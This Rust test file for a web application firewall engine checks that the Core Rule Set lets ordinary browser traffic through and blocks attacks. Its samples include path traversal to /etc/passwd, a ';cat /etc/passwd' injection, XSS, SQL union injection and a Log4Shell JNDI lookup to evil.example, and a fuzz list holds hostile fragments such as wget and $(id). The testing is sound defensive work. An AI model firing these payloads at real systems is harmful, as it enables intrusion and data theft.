//! The Core Rule Set, where there is a copy of it: in the folder that `FUSEBOX_CRS` names, or beside the project.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test may say that this cannot fail: its panic is the report"
)]

mod core_rules;

use std::time::{Instant, SystemTime};

use fusebox_seclang::{Ruleset, Transaction};

fn rules(level: u8) -> Option<Ruleset> {
    built(level, false)
}

fn built(level: u8, plain: bool) -> Option<Ruleset> {
    let setup = format!(
        r#"
        SecRuleEngine On
        SecRequestBodyAccess On
        SecResponseBodyAccess On
        SecAction "id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}"
        SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
        "#
    );
    let start = Instant::now();
    let builder = Ruleset::builder()
        .text("setup", &setup)
        .crs(core_rules::folder()?);
    let builder = if plain { builder.plain() } else { builder };
    let rules = builder.build().unwrap_or_else(|error| panic!("{error}"));
    eprintln!(
        "level {level}: {} rules in {:?}",
        rules.rules(),
        start.elapsed()
    );
    Some(rules)
}

const BROWSER: &[(&str, &str)] = &[
    ("Host", "shop.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ),
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    (
        "Cookie",
        "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en; cart=42; seen=1",
    ),
    ("Connection", "keep-alive"),
];

fn get(rules: &Ruleset, uri: &str) -> Transaction {
    let mut tx = rules.transaction(SystemTime::UNIX_EPOCH);
    tx.connection(
        "203.0.113.7:40000".parse().unwrap(),
        "192.0.2.1:443".parse().unwrap(),
    );
    tx.request_line(b"GET", uri.as_bytes(), b"HTTP/1.1");
    for (name, value) in BROWSER {
        tx.request_header(name.as_bytes(), value.as_bytes());
    }
    tx.end_request_headers();
    tx.end_request_body();
    tx.response_line(200, b"HTTP/1.1");
    tx.end_response_headers();
    tx.end_response_body();
    tx.finish();
    tx
}

fn ids(tx: &Transaction) -> Vec<u32> {
    tx.matches().map(|found| found.rule_id()).collect()
}

#[test]
fn every_level_loads_and_lets_a_browser_through() {
    for level in [1, 2, 4] {
        let Some(rules) = rules(level) else { return };
        let tx = get(&rules, "/products?page=2&sort=price");
        if level < 4 {
            assert_eq!(ids(&tx), [0_u32; 0], "level {level}");
        }
        assert!(tx.interruption().is_none(), "level {level}: {:?}", ids(&tx));
    }
}

#[test]
fn attacks_of_each_class_are_refused() {
    let Some(rules) = rules(1) else { return };
    for (uri, id) in [
        ("/?file=../../../../etc/passwd", 930_100),
        ("/?cmd=;cat%20/etc/passwd", 932_160),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941_110),
        (
            "/?id=1%20union%20all%20select%20password%20from%20users",
            942_270,
        ),
        ("/?x=$%7Bjndi:ldap://evil.example/a%7D", 944_150),
    ] {
        let tx = get(&rules, uri);
        assert!(ids(&tx).contains(&id), "{uri}: {:?}", ids(&tx));
        let stopped = tx.interruption().expect(uri);
        assert_eq!(stopped.rule_id(), 949_110, "{uri}");
    }
}

/// Pieces of benign and hostile requests, which are put together at random.
const PIECES: &[&str] = &[
    "page",
    "=",
    "2",
    "&",
    "q",
    "%27",
    " ",
    "+",
    "union",
    "select",
    "<script>",
    "alert(1)",
    "../",
    "etc/passwd",
    ";",
    "cat",
    "--",
    "%00",
    "${jndi:ldap:",
    "//",
    "O'Neill",
    "a,b",
    "%u0027",
    "{{",
    "}}",
    "/*",
    "*/",
    "0x41",
    "or",
    "1=1",
    "\"",
    "%0d%0a",
    "Set-Cookie:",
    "php://",
    "\u{e9}",
    "&#x3c;",
    "\\",
    "eval(",
    ")",
    "[]",
    "__proto__",
    "wget",
    "$(id)",
    "|",
    "data:text/html",
    "javascript:",
    "onload",
    "json",
];

/// What each match was of and what the log says about it.
fn seen(tx: &Transaction) -> Vec<(Vec<u8>, String)> {
    tx.matches()
        .map(|found| {
            let mut line = String::new();
            found.write_log_line(&mut line);
            (found.variable(), line)
        })
        .collect()
}

#[test]
fn the_fast_engine_and_the_plain_one_see_the_same() {
    for level in [1, 4] {
        let (Some(fast), Some(plain)) = (built(level, false), built(level, true)) else {
            return;
        };
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = |below: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            usize::try_from(state >> 33).unwrap() % below
        };
        let mut matched = 0;
        for round in 0..60 {
            let mut text = |pieces: usize| -> String {
                (0..pieces).map(|_| PIECES[next(PIECES.len())]).collect()
            };
            let uri = format!("/{}?{}", text(2), text(12)).replace(' ', "%20");
            let (header, cookie, body) = (text(6), text(5), text(25));
            let kind = if round % 3 == 0 {
                "application/json"
            } else {
                "application/x-www-form-urlencoded"
            };
            let body = if round % 3 == 0 {
                format!("{{\"a\":[{:?},{:?}],\"b\":{:?}}}", header, body, cookie)
            } else {
                body
            };
            let run = |rules: &Ruleset| {
                let mut tx = rules.transaction(SystemTime::UNIX_EPOCH);
                tx.request_line(b"POST", uri.as_bytes(), b"HTTP/1.1");
                for (name, value) in BROWSER {
                    tx.request_header(name.as_bytes(), value.as_bytes());
                }
                tx.request_header(b"Referer", header.as_bytes());
                tx.request_header(b"Cookie", format!("x={cookie}; y=1").as_bytes());
                tx.request_header(b"Content-Type", kind.as_bytes());
                tx.end_request_headers();
                tx.request_body(body.as_bytes());
                tx.end_request_body();
                tx.response_line(200, b"HTTP/1.1");
                tx.response_header(b"Content-Type", b"text/html");
                tx.end_response_headers();
                tx.response_body(header.as_bytes());
                tx.end_response_body();
                tx.finish();
                tx
            };
            let (fast, plain) = (run(&fast), run(&plain));
            assert_eq!(seen(&fast), seen(&plain), "{uri} {header} {cookie} {body}");
            assert_eq!(fast.interruption(), plain.interruption(), "{uri}");
            matched += seen(&fast).len();
        }
        assert!(matched > 300, "only {matched} matches compared");
    }
}
